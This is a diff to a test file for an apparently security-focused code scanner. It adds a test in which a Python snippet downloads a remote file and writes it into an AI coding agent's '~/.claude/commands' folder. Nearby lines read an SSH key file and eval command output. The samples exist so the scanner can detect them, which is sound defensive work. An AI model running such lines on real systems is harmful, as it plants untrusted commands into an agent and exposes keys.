@@ -4,6 +4,7 @@ from tests.cases import all_cases
 from vskill_platform.scan.any_language.computed_execution import computed_execution
 from vskill_platform.scan.facts.facts import Act
 from vskill_platform.scan.facts.sensitive_paths import SecretKind
+from vskill_platform.scan.languages.python.read_python import read_python
 from vskill_platform.scan.languages.shell.read_shell import read_shell
 
 OWN_KEY = "cat ~/.ssh/id_ed25519.pub"
@@ -97,3 +98,13 @@ def test_settings_that_an_agent_prints_are_no_computed_code() -> None:
     assert computed_execution("- eval $(direnv exec steps run)\n- curl -f $URL\n", []) != []
     assert computed_execution("- eval $(ssh-agent bash steps)\n- curl -f $URL\n", []) != []
     assert computed_execution("- eval $(pyenv init - bash)\n- curl -f $URL\n", []) == []
+
+
+def test_a_downloaded_command_of_the_agent_is_a_sensitive_write_in_python_too() -> None:
+    code = (
+        "import os, urllib.request as u\n"
+        "target = os.path.expanduser('~/.claude/commands/x.md')\n"
+        "open(target, 'wb').write(u.urlopen('https://tern-notes.net/x.md').read())\n"
+    )
+
+    assert Act.WRITE in {fact.act for fact in read_python(code)}
